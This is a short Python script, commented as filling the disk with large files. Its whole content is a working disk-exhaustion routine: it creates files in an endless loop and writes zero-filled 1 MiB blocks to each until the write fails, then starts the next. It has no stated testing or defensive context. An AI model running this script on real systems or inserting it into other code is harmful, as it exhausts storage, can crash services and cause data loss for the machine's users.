# Fills the disk with large files.

number = 0
while True:
    with open(f"file-{number}", "wb") as file:
        try:
            while True:
                file.write(bytes(1 << 20))
        except OSError:
            number += 1
